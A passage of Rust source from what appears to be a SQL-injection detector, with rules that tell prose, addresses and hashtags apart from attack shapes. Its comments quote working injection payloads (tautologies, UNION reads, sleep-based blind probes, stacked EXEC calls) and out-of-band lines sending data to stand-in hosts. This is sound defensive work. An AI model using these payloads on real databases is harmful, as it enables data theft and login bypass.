            if c == q && !(q == b'\'' && sql_grammar::inside_a_word(v, i)) {
                let closes = b[i - 1] != b' '
                    && b.get(i + 1)
                        .is_none_or(|n| matches!(n, b' ' | b'.' | b',' | b':' | b'!' | b'?'));
                if !closes {
                    return false;
                }
                open = None;
                quotations += 1;
            }
            continue;
        }
        match c {
            b'\'' if sql_grammar::inside_a_word(v, i) => {}
            b'\'' | b'"' => {
                let opens = (i == 0 || b[i - 1] == b' ')
                    && b.get(i + 1).is_some_and(|&n| n != b' ' && n != c);
                if !opens {
                    return false;
                }
                open = Some(c);
            }
            b'-' if b.get(i + 1) == Some(&b'-') => return false,
            b' ' | b'.' | b',' | b':' | b'!' | b'?' | b'-' => {}
            _ if c.is_ascii_alphanumeric() || c >= 0x80 => {
                let starts = i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] >= 0x80);
                words += usize::from(starts);
            }
            _ => return false,
        }
    }
    open.is_none() && quotations > 0 && words >= 3 && !has_bare_sql_word(b)
}

/// Whether the value is prose whose apostrophes are inside words or stand
/// for the `g` of `-ing` (see [`sql_grammar::elision_at`]; `Shakin' All
/// Over` 0.997), with nothing else but letters, digits, spaces, single
/// hyphens, sentence punctuation and parentheses that call nothing (a space
/// or another parenthesis before each `(`), and none of the words SQL joins
/// conditions with ([`has_bare_sql_word`]): the grammar decides.
fn elisions_in_prose(v: &str) -> bool {
    let b = v.as_bytes();
    let mut elisions = 0;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'\'' if sql_grammar::inside_a_word(v, i) => {}
            b'\'' if sql_grammar::elision_at(v, i) => elisions += 1,
            b'-' if b.get(i + 1) == Some(&b'-') => return false,
            b'(' if i > 0 && !matches!(b[i - 1], b' ' | b'(') => return false,
            b' ' | b'.' | b',' | b'!' | b'?' | b'-' | b'(' | b')' => {}
            _ if c.is_ascii_alphanumeric() || c >= 0x80 => {}
            _ => return false,
        }
    }
    elisions > 0 && !has_bare_sql_word(b)
}

/// Whether the value starts with the word `select`, as a sentence of a
/// shop's UI or a customer's note does (`Select all from the summer
/// collection` 0.9995): a value that starts so injects only where it is read
/// whole as a query or a subquery (`IN (select ...)`), which the grammar
/// tries, and prose parses there no more than anywhere.
fn opens_with_select(v: &str) -> bool {
    let b = v.trim_start().as_bytes();
    b.get(..6)
        .is_some_and(|w| w.eq_ignore_ascii_case(b"select"))
        && b.get(6).is_some_and(|c| *c == b' ')
}

/// Whether the value is hashtags and nothing else (`#tbt`, `#rust`, `#data
/// #ootd`): a `#`, then letters, digits or `_`, separated by spaces.
/// To the model MySQL's comment after a short value (`#Python` 0.83, `#SQL`
/// 0.96), to the grammar a name of T-SQL's (a temporary table). Neither
/// reading injects: as MySQL's comment the value adds nothing where it
/// lands and cuts the rest of the line, which leaves the condition it was
/// to complete without its operand (`WHERE b = #tbt`: no query); as a name
/// it is one bare word, as any plain word is. A line break (the comment
/// ends there) or any other byte leaves the value to the model and the
/// grammar.
fn hashtags(v: &str) -> bool {
    let b = v.trim_matches(|c| c == ' ').as_bytes();
    !b.is_empty()
        && b.split(|c| *c == b' ').filter(|w| !w.is_empty()).all(|w| {
            w.len() > 1
                && w[0] == b'#'
                && w[1..]
                    .iter()
                    .all(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c >= 0x80)
        })
}

/// Whether the value is a Markdown code fence and nothing else (a line
/// of a chat message or comment box: ```` ``` ````, ```` ```rust ````,
/// ```` ```c++ ````): three or more backticks, then at most an info word of
/// letters, digits, `_`, `+`, `-` or `.`. To the model and the grammar an
/// odd run of MySQL's name quotes (```` ``` ```` 0.75, ```` ```js ```` raised
/// and read as a sort key); in a name (``ORDER BY `<value>` ``) the backticks
/// close it and leave the word and an unterminated name behind, which no
/// query parses. A `#` (```` ```c# ````) is left out: MySQL's comment there
/// would end the query after the name.
fn code_fence(v: &str) -> bool {
    let b = v.trim().as_bytes();
    let ticks = b.iter().take_while(|&&c| c == b'`').count();
    ticks >= 3
        && b[ticks..]
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'+' | b'-' | b'.'))
}

/// Whether the value is one command-line long option and nothing else
/// (`--help`, `--version`, `--dry-run`: 0.87 to the model, a line comment
/// and a word, which the grammar reads as MySQL's double negation of a
/// name; found in the Big List of Naughty Strings). Wherever it lands, such
/// a value is a comment, which leaves the query unfinished, or a name
/// negated twice: it ends no string, joins no condition and calls nothing
/// (`--sleep` names a column). Letters, digits and inner hyphens only: a
/// parenthesis, quote, `=` or space leaves the value to the model.
fn long_option(v: &str) -> bool {
    let b = v.trim().as_bytes();
    b.len() > 2
        && b.starts_with(b"--")
        && b[2].is_ascii_alphabetic()
        && b[3..]
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || c == b'-')
}

/// Whether the value is a USSD or supplementary-service code as a phone
/// dials it (`*123#`, `*100*1234567890#`, `#31#`, `*#06#`): a star or hash,
/// digits, stars and hashes, a final hash. Mobile top-up and money apps
/// take them; to the model a multiplication, then MySQL's comment (`*123#`
/// 0.9996). Starting with `*` or `#`, it ends a query wherever a value
/// lands (`WHERE b = *123` is no query, `WHERE b = #...` comments out the
/// rest); after a number of the query's own (`LIMIT 10 *123`) it multiplies
/// that number and cuts what follows, a change of the app's own constant,
/// not of what the query reads.
fn ussd_code(v: &str) -> bool {
    let b = v.trim().as_bytes();
    (3..=40).contains(&b.len())
        && matches!(b[0], b'*' | b'#')
        && b[b.len() - 1] == b'#'
        && b.iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'*' | b'#'))
        && b.iter().any(u8::is_ascii_digit)
}

/// What SQL reads of a value without quotes around its line comments
/// (`--`, or MySQL's `#`), each of which runs to a line break or to the end
/// of the value: the text outside them. `We have DIFFERENT amounts of HAIR
/// --`, `Support your local police force -- steal!!` (0.999-1.0 to the
/// model: a dash written as `--` in prose, or an attribution), `Side door
/// code 8642# (press hard)`, and text of several lines as a text area sends
/// it (`BOFH excuse #10:\r\n\r\nhardware stress fractures` 0.99: the
/// line break ends the comment, and what follows is read again). Without a
/// quote the value lands bare only, and when what SQL reads of it is only
/// names and numbers side by side ([`only_side_by_side_words`]) it is no
/// expression there.
///
/// A `#` counts as a comment only where no tab or other control character
/// but a line break comes before it: sqlmap spaces its payloads with tabs
/// (`1\tORDER BY\n1#`).
fn before_line_comment(v: &str) -> Option<Cow<'_, [u8]>> {
    let b = v.as_bytes();
    let control_at = |c: &u8| c.is_ascii_control() && !matches!(c, b'\n' | b'\r');
    let first = first_line_comment(b, control_at)?;
    if memchr::memchr3(b'\'', b'"', b'`', b).is_some() {
        return None;
    }
    let Some(end) = memchr::memchr2(b'\n', b'\r', &b[first..]).map(|e| first + e) else {
        // One comment, to the end: what stands before it (values here are
        // short and most are of one line; no copy).
        return Some(Cow::Borrowed(before_sentence_end(&b[..first])));
    };
    // Several lines: one pass over the rest, each byte read once. Where
    // the first control character but a line break stands: a `#` after it
    // is no comment (found once: asked at each `#`, a value of many lines
    // of `#` cost its length squared).
    let control = b.iter().position(control_at).unwrap_or(b.len());
    let mut read = Vec::with_capacity(b.len());
    read.extend_from_slice(before_sentence_end(&b[..first]));
    let (mut piece, mut j) = (end, end);
    while j < b.len() {
        let comment = (b[j] == b'#' && j < control) || b[j..].starts_with(b"--");
        if !comment {
            j += 1;
            continue;
        }
        read.push(b' ');
        read.extend_from_slice(before_sentence_end(&b[piece..j]));
        match memchr::memchr2(b'\n', b'\r', &b[j..]) {
            Some(e) => (piece, j) = (j + e, j + e),
            None => return Some(Cow::Owned(read)),
        }
    }
    read.push(b' ');
    read.extend_from_slice(&b[piece..]);
    Some(Cow::Owned(read))
}

/// The index of the first line comment of `b`: `--`, or a `#` with no
/// `control` byte (a control character but a line break) before it (see
/// [`before_line_comment`]).
fn first_line_comment(b: &[u8], control: impl Fn(&u8) -> bool) -> Option<usize> {
    // Values here are short: eight bytes at a time finds the first `-`
    // without `memchr`'s set-up (callgrind, form POST).
    let dashes = crate::swar::byte_positions(b, b'-').find(|&i| b.get(i + 1) == Some(&b'-'));
    let sharp = crate::swar::byte_positions(b, b'#')
        .next()
        .filter(|&h| !b[..h].iter().any(&control));
    match (dashes, sharp) {
        (Some(d), Some(h)) => Some(d.min(h)),
        (d, h) => d.or(h),
    }
}

/// `text` without its trailing blanks and the `!` or `?` that close a
/// sentence (`Не будите во мне сон! -- Евгений Кащеев`, 0.992): no operand
/// comes after the last word.
fn before_sentence_end(text: &[u8]) -> &[u8] {
    let before = text.trim_ascii_end();
    let marks = before
        .iter()
        .rev()
        .take_while(|c| matches!(c, b'!' | b'?'))
        .count();
    &before[..before.len() - marks]
}

/// Whether the value ends with a keypad code after two words or more, as
/// delivery instructions do (`use code 9876#`): to the model a number then
/// MySQL's comment (0.9975). As for a unit number, the grammar decides.
fn ends_with_keypad_code(v: &str) -> Option<&[u8]> {
    let b = v.trim_end().as_bytes().strip_suffix(b"#")?;
    let digits = b.iter().rev().take_while(|c| c.is_ascii_digit()).count();
    let before = &b[..b.len() - digits];
    ((1..=8).contains(&digits) && words_before_code(before)).then_some(before)
}

/// Whether `before`, the text before a unit number or keypad code, is two
/// words or more ending with a letter and a space (`123 Main St `, `use
/// code `), and words, not SQL: none of the SQL words that need no
/// punctuation, no `=` (sqlmap's `1 where 4985=4985 order by 1#` ends like
/// a keypad code).
fn words_before_code(before: &[u8]) -> bool {
    let n = before.len();
    n >= 2
        && before[n - 1] == b' '
        && before[n - 2].is_ascii_alphabetic()
        && before[..n - 1].contains(&b' ')
        && !before.contains(&b'=')
        && !has_bare_sql_word(before)
}

/// Whether the value ends with a unit number after a word, as an address
/// line does, after two words or more (`123 Main St #4`, `2 Elm St Unit
/// #5`, `789 Pine Rd # 3`; not `Title #1`, a name then a comment): to
/// the model a number, names, then MySQL's comment (0.99 to 0.9999: 12 of
/// 15 such lines were blocked). Whether what stands before the `#` is SQL
/// that the comment ends is the grammar's to say.
fn ends_with_unit_number(v: &str) -> Option<&[u8]> {
    let b = v.trim_end().as_bytes();
    let unit = b
        .iter()
        .rev()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    let hash = b[..b.len() - unit].trim_ascii_end().len().checked_sub(1)?;
    ((1..=6).contains(&unit)
        && b[..b.len() - unit]
            .iter()
            .rev()
            .take_while(|c| **c == b' ')
            .count()
            <= 1
        && b[hash] == b'#'
        && words_before_code(&b[..hash]))
    .then_some(&b[..hash])
}

/// Whether the words before a unit number or keypad code (see
/// [`ends_with_unit_number`], [`ends_with_keypad_code`]) are names and
/// numbers side by side and nothing else (`123 Main St`, `use code`): SQL
/// reads no expression in two operands without an operator between them,
/// wherever the value lands, so the comment that follows cuts nothing into
/// a query. Such a value is cleared without the grammatical reading, which
/// costs about half a millisecond for an address line.
fn only_side_by_side_words(before: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(before) else {
        return false;
    };
    let mut toks = Vec::with_capacity(8);
    lex(text, Context::Bare, 32, &mut toks);
    toks.len() < 32
        && toks
            .iter()
            .all(|t| t.tok.is_value() || matches!(t.tok, Tok::Dot | Tok::Comma))
        && toks
            .windows(2)
            .any(|w| w[0].tok.is_value() && w[1].tok.is_value())
}

/// Whether the value's first quote is the apostrophe of an English
/// contraction (`Don't`, `It's`, `we're`, `I'll`, `they've`, `I'd`, `I'm`):
/// inside a single-quoted string it ends the string in the middle of a
/// word, so the model reads the prose after it as code (`Don't 'select
/// all' -- it's slow` 0.9997, `It's '50/50' really` 0.9928). An injection
/// through a word's apostrophe continues with SQL at once
/// (`admin'union select ...`), which the grammar reads.
fn opens_with_contraction(v: &str) -> bool {
    let b = v.as_bytes();
    let Some(q) = memchr::memchr(b'\'', b) else {
        return false;
    };
    if q == 0 || !b[q - 1].is_ascii_alphabetic() {
        return false;
    }
    let rest = &b[q + 1..];
    let tail = rest
        .iter()
        .position(|c| !c.is_ascii_alphabetic())
        .unwrap_or(rest.len());
    let suffix = &rest[..tail];
    ["s", "re", "ll", "ve", "d", "m"]
        .iter()
        .any(|s| suffix.eq_ignore_ascii_case(s.as_bytes()))
        || (suffix.eq_ignore_ascii_case(b"t") && b[q - 1].eq_ignore_ascii_case(&b'n'))
}

/// The next occurrence of a needle at or after a position, kept between
/// searches that move forwards: a search started again from each place a
/// rule looks (each `<x:`, each `(/*`) made a value of them cost its length
/// squared.
pub(super) struct NextMatch {
    needle: &'static [u8],
    searched_from: Option<usize>,
    found: Option<usize>,
}

impl NextMatch {
    pub(super) fn new(needle: &'static [u8]) -> Self {
        NextMatch {
            needle,
            searched_from: None,
            found: None,
        }
    }

    /// The first occurrence of the needle in `b` at or after `from`; `b` is
    /// the same value at every call.
    pub(super) fn find(&mut self, b: &[u8], from: usize) -> Option<usize> {
        if let Some(s) = self.searched_from {
            if s <= from && self.found.is_none_or(|f| f >= from) {
                return self.found;
            }
        }
        let rest = &b[from..];
        let at = match self.needle {
            [one] => memchr::memchr(*one, rest),
            needle => memchr::memmem::find(rest, needle),
        };
        self.searched_from = Some(from);
        self.found = at.map(|e| from + e);
        self.found
    }
}

/// Whether the value reads a table as SQL would: `UNION [ALL|DISTINCT]
/// SELECT` (or `UNION(SELECT`), or a subquery, `(SELECT` with a `FROM`
/// after it; the words in any case, apart by spaces, line breaks, `+` or
/// comments (`UNION/**/SELECT`).
fn reads_a_table(v: &str) -> bool {
    let b = v.as_bytes();
    let word_at = |i: usize, w: &[u8]| {
        b.get(i..i + w.len())
            .is_some_and(|s| s.eq_ignore_ascii_case(w))
            && b.get(i + w.len())
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
    };
    let starts_word = |i: usize| i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_');
    // The next `*/` at or after a position, and the last `from`, kept
    // between the searches below: searched again from each `(` or `union`,
    // a value of `(select ` or `(/*` repeated cost its length squared.
    let close = std::cell::RefCell::new(NextMatch::new(b"*/"));
    let next_close = |from: usize| close.borrow_mut().find(b, from);
    let gaps = |mut i: usize| loop {
        match b.get(i) {
            Some(b' ' | b'\t' | b'\n' | b'\r' | b'+') => i += 1,
            Some(b'/') if b.get(i + 1) == Some(&b'*') => match next_close(i + 2) {
                Some(e) => i = e + 2,
                None => return i,
            },
            _ => return i,
        }
    };
    let last_from = std::cell::OnceCell::new();
    let from_after = |j: usize| {
        last_from
            .get_or_init(|| {
                (0..b.len())
                    .rev()
                    .find(|&k| b[k] | 0x20 == b'f' && starts_word(k) && word_at(k, b"from"))
            })
            .is_some_and(|k| k >= j)
    };
    (0..b.len()).any(|i| match b[i] {
        b'u' | b'U' if starts_word(i) && word_at(i, b"union") => {
            let mut j = gaps(i + 5);
            for w in [&b"all"[..], b"distinct"] {
                if word_at(j, w) {
                    j = gaps(j + w.len());
                    break;
                }
            }
            if b.get(j) == Some(&b'(') {
                j = gaps(j + 1);
            }
            word_at(j, b"select")
        }
        b'(' => {
            let j = gaps(i + 1);
            word_at(j, b"select") && from_after(j + 6)
        }
        _ => false,
    })
}

/// Whether the value calls one of SQL's ways to wait (`sleep(`,
/// `pg_sleep(`, `dbms_lock.sleep(`, `benchmark(`, SQLite's `randomblob(`) or
/// holds `WAITFOR DELAY`/`TIME`: time-based blind injection, which needs
/// nothing else to read data one bit at a time. The model knows `1 and
/// sleep(5)` (1.0) but not every operator before the call (`1-sleep(5)`
/// 0.51, `1|sleep(5)` 0.34).
fn waits(v: &str) -> bool {
    let b = v.as_bytes();
    let call = memchr::memchr_iter(b'(', b).any(|p| {
        let name_len = b[..p]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        let name = &b[p - name_len..p];
        // `pg_sleep`, `dbms_lock.sleep`: the name after `_` or `.` counts;
        // `oversleep` does not.
        ["sleep", "benchmark", "randomblob"]
            .iter()
            .any(|w| name.eq_ignore_ascii_case(w.as_bytes()))
    });
    call || {
        let mut after_waitfor = false;
        let mut words = b
            .split(|c| !c.is_ascii_alphabetic())
            .filter(|w| !w.is_empty());
        words.any(|w| {
            let wait = after_waitfor
                && (w.eq_ignore_ascii_case(b"delay") || w.eq_ignore_ascii_case(b"time"));
            after_waitfor = w.eq_ignore_ascii_case(b"waitfor");
            wait
        })
    }
}

/// Whether a `;` in the value is followed by a statement of SQL's that runs
/// something on its own (`; EXEC master..xp_dirtree ...`, `; DECLARE @q
/// ...`, `; SHUTDOWN`): a stacked query. The model knows `'; drop table
/// ...` but not every procedure call (`'; EXEC master..xp_dirtree
/// '\\attacker.example\x'--` 0.70, `'; EXEC sp_configure ...` 0.26).
fn stacks_a_statement(v: &str) -> bool {
    // A procedure call, a declaration, a copy or a grant names what it acts
    // on (`exec;` alone, a word between two semicolons, is prose: a
    // generated benign value had it); `SHUTDOWN` and `RECONFIGURE` stand
    // alone.
    const NAMING: [&[u8]; 7] = [
        b"exec",
        b"execute",
        b"declare",
        b"copy",
        b"grant",
        b"revoke",
        b"truncate",
    ];
    const ALONE: [&[u8]; 2] = [b"shutdown", b"reconfigure"];
    let b = v.as_bytes();
    if !b.contains(&b';') {
        return false;
    }
    memchr::memchr_iter(b';', b).any(|i| {
        let rest = &b[i + 1..];
        let start = rest
            .iter()
            .position(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'+'))
            .unwrap_or(rest.len());
        let word = rest[start..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        let w = &rest[start..start + word];
        let then = rest[start + word..].iter().find(|c| **c != b' ');
        let named = then.is_some_and(|c| {
            c.is_ascii_alphanumeric() || matches!(c, b'@' | b'_' | b'[' | b'(' | b'"')
        });
        let is = |list: &[&[u8]]| list.iter().any(|s| w.eq_ignore_ascii_case(s));
        (named && is(&NAMING)) || is(&ALONE)
    })
}

/// Whether the value joins, with `OR`, `AND`, `XOR`, `HAVING`, `||` or
/// `&&`, a comparison of a literal or a column with itself (`'x'='x'`,
/// `"a"="a"`, `''=''`, `1=1`, `x=x`): a condition true on every row (every
/// row where the column is set), which a value has no other reason to hold. The model knows `' or 'x'='x` (a quote left open) but scored the
/// same tautology between closed strings low (`'hi' or 'x'='x'` 0.01,
/// `"a" or "b"="b"` 0.0; wfuzz's `Injections/SQL.txt`, Debian's `wfuzz`),
/// where a numeric parameter takes it whole.
fn joins_a_tautology(v: &str) -> bool {
    let b = v.as_bytes();
    // The literal that ends at `end` (exclusive), read backwards: a quoted
    // string, quotes included, a run of digits, or a name (`x=x`: the
    // model trained without the attack lists scored ` OR x=x` 0.37).
    let literal_before = |end: usize| -> Option<usize> {
        let last = *b.get(end.checked_sub(1)?)?;
        if last == b'\'' || last == b'"' {
            memchr::memrchr(last, &b[..end - 1])
        } else {
            let word = b[..end]
                .iter()
                .rev()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            let first = b.get(end - word)?;
            let number = b[end - word..end].iter().all(u8::is_ascii_digit);
            (word > 0 && (number || !first.is_ascii_digit())).then(|| end - word)
        }
    };
    crate::swar::byte_positions(b, b'=').any(|i| {
        if matches!(b.get(i + 1), Some(b'='))
            || matches!(
                b.get(i.wrapping_sub(1)),
                Some(b'<' | b'>' | b'!' | b'=' | b':')
            )
        {
            return false;
        }
        let left_end = b[..i].iter().rposition(|c| *c != b' ').map_or(0, |p| p + 1);
        let Some(left) = literal_before(left_end) else {
            return false;
        };
        let l = &b[left..left_end];
        let right = b[i + 1..]
            .iter()
            .position(|c| *c != b' ')
            .map_or(b.len(), |p| i + 1 + p);
        let r = &b[right..];
        // The same literal on the right, or its text with the closing quote
        // left to the application's query (`' or 'x'='x`).
        let same = r.starts_with(l)
            && r.get(l.len())
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'.'))
            || (l.len() >= 2 && !l[0].is_ascii_digit() && r == &l[..l.len() - 1]);
        same && joined_before(b, left)
    })
}

/// Whether the value closes a string after its first word at most (`x'`,
/// `1"`, `'`), as an injection into a string does, and joins a call to it
/// with `OR`, `AND`, `XOR`, `||` or `&&` (`x' or version() or 'y` 0.48,
/// `x' or user() or 'y` 0.05, `' or jsonb_path_exists('{"a":1}', '$.a')--
/// -` 0.09: calls the model did not see there, or JSON inside their
/// strings): what the call returns decides the condition, a tautology or
/// one bit of a blind read. Raised to where the grammar decides. Prose
/// opens with more than one word before its first quote (`Select 'Yes' or
/// item(s) below`).
fn joins_a_call(v: &str) -> bool {
    let b = v.as_bytes();
    let Some(q) = memchr::memchr2(b'\'', b'"', b) else {
        return false;
    };
    if b[..q].iter().any(u8::is_ascii_whitespace) {
        return false;
    }
    let skip = |i: usize| script_shape::skip_space(b, i);
    let i = skip(q + 1);
    let word = b[i..]
        .iter()
        .take_while(|c| c.is_ascii_alphabetic())
        .count();
    let after_joiner = if ["or", "and", "xor"]
        .iter()
        .any(|j| b[i..i + word].eq_ignore_ascii_case(j.as_bytes()))
        && b.get(i + word)
            .is_some_and(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'('))
    {
        i + word
    } else if matches!(b.get(i..i + 2), Some(b"||" | b"&&")) {
        i + 2
    } else {
        return false;
    };
    let mut j = skip(after_joiner);
    while b.get(j) == Some(&b'(') {
        j = skip(j + 1);
    }
    call_at(b, j, |c| c.is_ascii_alphabetic() || c == b'_')
}

/// Whether a call starts at `i`: a name (a path of names: letters, digits,
/// `_`, `.`, `$`) whose first byte `first` accepts, then `(` after any
/// white space.
fn call_at(b: &[u8], i: usize, first: impl Fn(u8) -> bool) -> bool {
    let name = b[i..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'$'))
        .count();
    name > 0 && first(b[i]) && b.get(script_shape::skip_space(b, i + name)) == Some(&b'(')
}

/// Whether a quoted literal is cast with PostgreSQL's `::` (`'{"a":1}'::jsonb`,
/// `'1'::int`): SQL's syntax and nobody else's, and the way the JSON
/// operators that WAFs did not parse reach a condition (Claroty, 2022: `1 or
/// '{"a":1}'::jsonb @> '{"a":1}'::jsonb` 0.19, `' or '{"b":2}'::jsonb <@
/// '{"a":1, "b":2}'::jsonb-- -` 0.53). Raised to where the grammar decides.
fn casts_a_literal(v: &str) -> bool {
    let b = v.as_bytes();
    memchr::memmem::find_iter(b, b"::").any(|i| {
        i > 0
            && matches!(b[i - 1], b'\'' | b'"')
            && b.get(i + 2).is_some_and(u8::is_ascii_alphabetic)
    })
}

/// Whether the value is one literal, a quoted string or a number, then a
/// line comment to its end (`'1' -- -`, `"5" #`): bare, it selects that
/// row and comments out the rest of the condition (`WHERE id = '1' -- AND
/// owner = 7`), the shape of an access-control bypass. The model scored
/// `'1' -- -` 0.02.
fn literal_then_comment(v: &str) -> bool {
    let b = v.trim().as_bytes();
    let end = match b.first() {
        // A name or a number in quotes (`'1'`, `"admin"`, `'jane@x.io'`): a
        // quotation (`"Stay hungry." -- Steve Jobs`, `"Rosebud!" -- Orson
        // Welles`) is prose with an attribution.
        Some(&q @ (b'\'' | b'"')) => match memchr::memchr(q, &b[1..]) {
            Some(e)
                if b[1..e + 1].iter().all(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'@' | b'.')
                }) =>
            {
                e + 2
            }
            _ => return false,
        },
        Some(c) if c.is_ascii_digit() => b.iter().take_while(|c| c.is_ascii_digit()).count(),
        _ => return false,
    };
    // The comment of a payload is a stub (`-- -`, `#`, `--+`, `-- x`), an
    // attribution is a name and more.
    let rest = b[end..].trim_ascii_start();
    (rest.starts_with(b"--") || rest.starts_with(b"#"))
        && memchr::memchr2(b'\n', b'\r', rest).is_none()
        && rest.split(|c| *c == b' ').filter(|w| !w.is_empty()).count() <= 2
}

/// Whether `OR`, `AND`, `XOR`, `HAVING`, `||` or `&&` ends right before
/// `at`, past spaces, `+` and opening parentheses.
fn joined_before(b: &[u8], at: usize) -> bool {
    joiner_before(b, at).is_some()
}

/// The joiner [`joined_before`] finds, as written.
fn joiner_before(b: &[u8], at: usize) -> Option<&[u8]> {
    let end = b[..at]
        .iter()
        .rposition(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'(' | b'+'))
        .map_or(0, |p| p + 1);
    let word = b[..end]
        .iter()
        .rev()
        .take_while(|c| c.is_ascii_alphabetic())
        .count();
    let w = &b[end - word..end];
    if word > 0
        && (end == word || !b[end - word - 1].is_ascii_alphanumeric())
        && [&b"or"[..], b"and", b"xor", b"having"]
            .iter()
            .any(|j| w.eq_ignore_ascii_case(j))
    {
        return Some(w);
    }
    (end >= 2 && matches!(&b[end - 2..end], b"||" | b"&&")).then(|| &b[end - 2..end])
}

/// Whether the value joins a constant that is true, `TRUE` or a number of
/// one to three digits other than 0, with `OR`, `XOR` or `||` (`' or true
/// or '`, `1 || true`, `id or 1`): a condition true on every row. The model
/// scored `' or true or '` 0.04 (the same with `1=1` for `true`, 1.0) and
/// `id or 1` 0.51 (`1 or 1`, 0.997).
fn joins_true(v: &str) -> bool {
    let b = v.as_bytes();
    let or_before = |i: usize| {
        joiner_before(b, i).is_some_and(|j| {
            j == b"||" || j.eq_ignore_ascii_case(b"or") || j.eq_ignore_ascii_case(b"xor")
        })
    };
    let word_ends = |i: usize| {
        b.get(i)
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
    };
    (0..b.len()).any(|i| {
        if i > 0 && (b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'.')) {
            return false;
        }
        // A short number: `OR` before a longer one is more often Oregon
        // before a ZIP code (`Portland, OR 97201`) than a tautology.
        let constant = if let Some(len) = bit_or_hex_true(&b[i..]) {
            word_ends(i + len)
        } else if b[i].is_ascii_digit() {
            let digits = b[i..].iter().take_while(|c| c.is_ascii_digit()).count();
            digits <= 3
                && b[i..i + digits].iter().any(|c| *c != b'0')
                && word_ends(i + digits)
                && b.get(i + digits) != Some(&b'.')
        } else {
            b.get(i..i + 4)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"true"))
                && word_ends(i + 4)
        };
        constant && or_before(i)
    })
}

/// The length of a bit or hexadecimal literal that is not zero at the start
/// of `b` (MySQL's `b'1'`, `x'31'`, `0x1`, `0b1`; `1 or b'1'` scored 0.18,
/// `1 or x'31'` 0.18): true as a condition, as `1` is.
fn bit_or_hex_true(b: &[u8]) -> Option<usize> {
    let (digits_at, close, is_digit): (usize, bool, fn(&u8) -> bool) = match b {
        [b'b' | b'B', b'\'', ..] => (2, true, |c| matches!(c, b'0' | b'1')),
        [b'x' | b'X', b'\'', ..] => (2, true, u8::is_ascii_hexdigit),
        [b'0', b'b' | b'B', ..] => (2, false, |c| matches!(c, b'0' | b'1')),
        [b'0', b'x' | b'X', ..] => (2, false, u8::is_ascii_hexdigit),
        _ => return None,
    };
    let digits = &b[digits_at..];
    let n = digits.iter().take_while(|c| is_digit(c)).count();
    if n == 0 || digits[..n].iter().all(|c| *c == b'0') {
        return None;
    }
    let len = digits_at + n;
    match (close, b.get(len)) {
        (true, Some(b'\'')) => Some(len + 1),
        (true, _) => None,
        (false, _) => Some(len),
    }
}

/// Whether the value closes a string and concatenates something other than
/// another string to it: `||` then a name, a call or a parenthesis (`'||
/// utl_http.request('http://x.example/'||user) || '`, `'||password||'`),
/// or T-SQL's `+` then a call or a parenthesis (`x'+convert(int,@@version)+'`).
/// How an injection into a string runs a function (out-of-band requests,
/// errors that carry data) or copies a column into the value the
/// application stores and shows. The model scored the first 0.0005 (a URL
/// inside the call: the same with `'x'`, 1.0), `'||user||'` 0.19.
fn concatenates_to_a_string(v: &str) -> bool {
    let b = v.as_bytes();
    let skip_ws = |i: usize| script_shape::skip_space(b, i);
    let name_start = |c: u8| c.is_ascii_alphabetic() || c == b'_' || c == b'@';
    memchr::memchr2_iter(b'\'', b'"', b).any(|q| {
        let i = skip_ws(q + 1);
        match b.get(i..i + 2) {
            Some(b"||") => {
                let j = skip_ws(i + 2);
                b.get(j).is_some_and(|&c| name_start(c) || c == b'(')
            }
            Some([b'+', _]) => {
                let j = skip_ws(i + 1);
                b.get(j) == Some(&b'(') || call_at(b, j, name_start)
            }
            _ => false,
        }
    })
}

/// Whether the whole value is one SQL operator between two quotes of the
/// same kind (`'='`, `'-'`, `'*'`, `' LIKE '`, `"="`): it closes the string
/// it lands in, applies the operator to the empty text before it and to the
/// empty text the query's own closing quote ends. In MySQL the result is a
/// number, `pass = ''-''` is `pass = 0`, true of every text that does not
/// start with a digit: a login bypass of the cheat sheets. Too short for
/// the model (`'='` 0.66, `'-'` 0.05); with spaces around the operator it was
/// certain (`' = '` 0.99).
fn quoted_operator(v: &str) -> bool {
    const OPERATORS: [&[u8]; 28] = [
        b"=", b"-", b"+", b"*", b"/", b"%", b"&", b"|", b"^", b"<", b">", b"<>", b"!=", b"<=",
        b">=", b"<=>", b"||", b"&&", b"<<", b">>", b"like", b"rlike", b"regexp", b"div", b"mod",
        b"xor", b"or", b"and",
    ];
    let b = v.trim().as_bytes();
    let [q @ (b'\'' | b'"'), inner @ .., last] = b else {
        return false;
    };
    if last != q || inner.len() > 8 {
        return false;
    }
    let op = inner.trim_ascii();
    OPERATORS.iter().any(|o| op.eq_ignore_ascii_case(o))
}

/// Whether the value joins, with `OR`, `AND`, `XOR`, `||` or `&&`, a
/// pattern match of a column with a string (`x' OR full_name LIKE '%Bob%`,
/// `' and pass REGEXP '^a`): how an injection reads a table a character at
/// a time, or widens a search to every row. The model scored `x' OR name
/// LIKE '%a%` 0.67.
fn joins_a_pattern_match(v: &str) -> bool {
    let b = v.as_bytes();
    // `like`, `rlike` and `regexp` hold a `k` or an `x`: most values hold
    // neither, and one pass eight bytes at a time says so.
    let k_or_x = |w: u64| {
        let lower = w | 0x2020_2020_2020_2020;
        crate::swar::equal_to(lower, b'k') | crate::swar::equal_to(lower, b'x')
    };
